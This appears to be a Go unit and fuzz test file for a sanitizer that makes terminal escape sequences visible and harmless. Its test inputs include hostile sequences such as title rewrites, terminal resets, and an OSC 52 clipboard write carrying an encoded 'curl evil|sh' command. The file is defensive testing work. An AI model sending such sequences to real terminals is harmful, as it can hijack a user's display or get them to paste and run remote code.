package termtext

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
)

// hostile are the sequences a lab author, a learner's file or a cluster
// object could carry: each kind the terminal acts on, in 7-bit and 8-bit
// forms, terminated and not.
var hostile = []string{
	"\x1b]2;owned\x07",                          // OSC 2: window title, BEL
	"\x1b]0;owned\x1b\\",                        // OSC 0, ST
	"\x1b]52;c;Y3VybCBldmlsfHNo\x07",            // OSC 52: clipboard write
	"\x1b]8;;http://evil/\x1b\\x\x1b]8;;\x1b\\", // OSC 8 link
	"\x1b[2J\x1b[H",                             // CSI: clear, home
	"\x1b[31mred\x1b[0m",                        // SGR
	"\x1bP+q544e\x1b\\",                         // DCS
	"\x1b_apc\x1b\\",                            // APC
	"\x1b^pm\x1b\\",                             // PM
	"\x1bXsos\x1b\\",                            // SOS
	"\x1bc",                                     // RIS: full reset
	"\u009d2;c1 title\u009c",                    // 8-bit OSC and ST
	"\u009b2J",                                  // 8-bit CSI
	"\x9b2J",                                    // a raw byte CSI, not UTF-8
	"\x1b]2;unterminated",
	"a\rb", "\x00\x08\x7f\x0e\x0f",
}

func TestCleanShowsEverySequence(t *testing.T) {
	for _, in := range hostile {
		out := Clean(in)
		assertInert(t, in, out)
		if strings.ContainsRune(in, 0x1b) && !strings.Contains(out, "␛") {
			t.Errorf("Clean(%q) = %q: the escape is not shown", in, out)
		}
		if ansi.Strip(out) != out {
			t.Errorf("Clean(%q) = %q: x/ansi still finds a sequence in it", in, out)
		}
	}
}

func TestCleanWords(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b]2;owned\x07": "␛]2;owned␇",
		"\x1b[2J":          "␛[2J",
		"\u009d2;t\u009c":  "␛]2;t␛\\",
		"line\r\nnext\r\n": "line\nnext\n",
		"a\rb":             "a␍b",
		"\x9b":             "?",
		"탭\t과 줄\n":         "탭\t과 줄\n",
		"\x7f":             "␡",
		"plain ␛ already":  "plain ␛ already",
	} {
		if got := Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCleanKeepsCleanTextAsIs(t *testing.T) {
	s := "드라이버 노드: gpu-1\t(ok)\n✓ 통과 — 다음 단계"
	if got := Clean(s); got != s {
		t.Errorf("Clean changed clean text: %q", got)
	}
}

// assertInert fails unless out is valid UTF-8 with no control character
// but newline and tab.
func assertInert(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("Clean(%q) = %q: not UTF-8", in, out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Fatalf("Clean(%q) = %q: holds control %U", in, out, r)
		}
	}
}

// FuzzClean: whatever comes in, nothing the terminal acts on comes out,
// cleaning twice changes nothing, and no escape goes missing unseen. The
// seed corpus runs as a unit test on every go test.
func FuzzClean(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Add("")
	f.Add("한글 텍스트\n\ttab")
	f.Add("\r\n\r\r\n")
	f.Fuzz(func(t *testing.T, in string) {
		out := Clean(in)
		assertInert(t, in, out)
		if Clean(out) != out {
			t.Fatalf("Clean(Clean(%q)) != Clean: %q", in, out)
		}
		if n, m := strings.Count(in, "\x1b"), strings.Count(out, "␛"); m < n {
			t.Fatalf("Clean(%q) = %q: %d escapes, %d shown", in, out, n, m)
		}
		if clean(in) != (out == in) {
			t.Fatalf("clean(%q) = %v but Clean gave %q", in, clean(in), out)
		}
	})
}

type inner struct {
	Text  string
	Words []string
	Kind  kind
}

type kind string

type outer struct {
	Name    string
	Inner   inner
	Ptr     *inner
	Nil     *inner
	Map     map[string]string
	Arr     [2]string
	Bytes   []byte
	When    time.Time
	Err     error
	private string
}

func TestDeepCleansEveryStringAndLeavesTheOriginal(t *testing.T) {
	bad := "\x1b]2;x\x07"
	shared := &inner{Text: bad}
	in := outer{
		Name:    bad,
		Inner:   inner{Text: bad, Words: []string{"ok", bad}, Kind: kind(bad)},
		Ptr:     shared,
		Map:     map[string]string{bad: bad},
		Arr:     [2]string{bad, "ok"},
		Bytes:   []byte(bad),
		When:    time.Unix(1, 0),
		private: bad,
	}
	out := Deep(in)
	want := "␛]2;x␇"
	if out.Name != want || out.Inner.Text != want || out.Inner.Words[1] != want || out.Inner.Kind != kind(want) ||
		out.Ptr.Text != want || out.Map[want] != want || out.Arr[0] != want {
		t.Errorf("Deep left a string uncleaned: %+v", out)
	}
	if in.Name != bad || in.Inner.Words[1] != bad || shared.Text != bad || in.Map[bad] != bad {
		t.Errorf("Deep changed its argument: %+v", in)
	}
	if string(out.Bytes) != bad || !out.When.Equal(in.When) || out.private != bad {
		t.Errorf("Deep changed what is not text to show: %+v", out)
	}
	if out.Nil != nil {
		t.Errorf("Deep made a nil pointer: %+v", out.Nil)
	}
}

type node struct {
	Name string
	Next *node
}

func TestDeepEndsOnCycles(t *testing.T) {
	a := &node{Name: "\x1b[2J"}
	a.Next = a
	out := Deep(a)
	if out.Name != "␛[2J" || out.Next != out {
		t.Errorf("Deep of a cycle: %+v", out)
	}
}

// A clean value is handed back as it is, not copied (the TUI passes every
// report through Deep); one bad string anywhere Deep copies still makes
// the copy, wherever it hides.
func TestDeepCopiesOnlyWhatIsDirty(t *testing.T) {
	clean := outer{Name: "ok", Inner: inner{Words: []string{"a", "b"}}, Ptr: &inner{Text: "ok"}, Map: map[string]string{"k": "v"}}
	out := Deep(clean)
	if &out.Inner.Words[0] != &clean.Inner.Words[0] || out.Ptr != clean.Ptr {
		t.Error("Deep copied a value with nothing to clean")
	}
	bad, want := "\x07x", "␇x"
	for name, v := range map[string]outer{
		"field":        {Name: bad},
		"nested slice": {Inner: inner{Words: []string{"a", bad}}},
		"pointer":      {Ptr: &inner{Text: bad}},
		"map key":      {Map: map[string]string{bad: "v"}},
		"map value":    {Map: map[string]string{"k": bad}},
		"array":        {Arr: [2]string{"ok", bad}},
	} {
		out := Deep(v)
		got := out.Name + strings.Join(out.Inner.Words, "") + out.Arr[1]
		if out.Ptr != nil {
			got += out.Ptr.Text
		}
		for k, val := range out.Map {
			got += k + val
		}
		if !strings.Contains(got, want) || strings.ContainsRune(got, 0x07) {
			t.Errorf("%s: not cleaned: %+v", name, out)
		}
	}
	// Behind a cycle too.
	a := &node{Name: "ok"}
	a.Next = &node{Name: bad, Next: a}
	if got := Deep(a); got.Next.Name != want {
		t.Errorf("a bad string behind a cycle: %q", got.Next.Name)
	}
}
